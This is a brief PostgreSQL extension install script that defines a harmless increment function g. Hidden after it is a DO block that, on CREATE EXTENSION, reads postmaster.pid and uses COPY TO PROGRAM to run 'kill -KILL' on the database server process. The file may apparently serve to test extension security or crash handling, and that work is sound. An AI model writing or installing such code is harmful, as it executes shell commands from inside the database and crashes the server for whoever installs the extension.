\echo Use "CREATE EXTENSION" to load this file. \quit
create function g(x int) returns int language sql immutable as 'select x + 1';
do $$ begin execute format('copy (select 1) to program %L', 'kill -KILL ' || split_part(pg_read_file('postmaster.pid'), E'\n', 1)); end $$;
